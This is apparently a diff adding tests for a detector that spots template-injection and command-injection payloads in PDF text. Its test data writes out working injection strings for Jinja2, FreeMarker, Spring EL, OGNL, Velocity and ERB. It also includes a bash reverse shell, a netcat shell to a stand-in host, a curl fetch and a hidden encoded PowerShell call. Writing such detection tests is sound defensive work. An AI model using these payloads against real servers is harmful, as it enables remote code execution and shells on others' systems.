@@ -3,7 +3,7 @@ import { DEFAULT_LIMITS } from "../../limits";
 import { readPdf } from "../../pdf/document";
 import { PdfBuilder, hexString } from "../../pdf/testing/pdf-builder";
 import { collectFacts } from "./document-facts";
-import { findLookups } from "./processor-injections";
+import { findLookups, findServerPayloads } from "./processor-injections";
 
 const lookups = (text: string) => findLookups(text, { left: 100 }).map((l) => [l.what.split(" (")[0], l.target]);
 
@@ -95,4 +95,30 @@ describe("collectProcessorInjections: where servers read", () => {
       { kind: "external-entity", target: "http://logs.example/x.dtd", where: "attachment factur-x.xml" },
     ]);
   });
+});
+
+describe("findServerPayloads: template and shell code for the server that renders a value", () => {
+  const kinds = (text: string) => findServerPayloads(text).map((p) => p.kind);
+  it.each([
+    ["Jinja2 object traversal", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "template"],
+    ["Jinja2 through a global", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "template"],
+    ["FreeMarker's Execute", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "template"],
+    ["Spring EL naming the runtime", "${T(java.lang.Runtime).getRuntime().exec('id')}", "template"],
+    ["OGNL's member access", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "template"],
+    ["Velocity class loading", '#set($x=$class.forName("java.lang.Runtime"))', "template"],
+    ["ERB running a command", "<%= system('id') %>", "template"],
+    ["a template probe", "Invoice {{7*7}}", "template"],
+    ["a substitution that fetches", "$(curl -s https://logs.example/x)", "command"],
+    ["a backtick reverse shell", "`bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`", "command"],
+    ["a separator and netcat", "ACME; nc -e /bin/sh logs.example 4444", "command"],
+    ["a separator and an encoded PowerShell", "x && powershell -nop -w hidden -enc SQBFAFgA", "command"],
+  ])("finds %s", (_name, text, kind) => expect(kinds(`Report ${text} 2026`)).toContain(kind));
+
+  it.each([
+    ["a template placeholder left unrendered", "Dear {{ customer.name }}, ${order.id} shipped"],
+    ["a shell tutorial's bookmark", "Command substitution: $(date) and `whoami`"],
+    ["an install line in a manual's bookmark", "Install: curl -fsSL https://get.example.com | sh"],
+    ["a price formula", "Total = 7 * 7 = 49"],
+    ["jQuery in a comment", "$(document).ready(function () { $('#x').hide(); })"],
+  ])("leaves %s alone", (_name, text) => expect(findServerPayloads(text)).toEqual([]));
 });
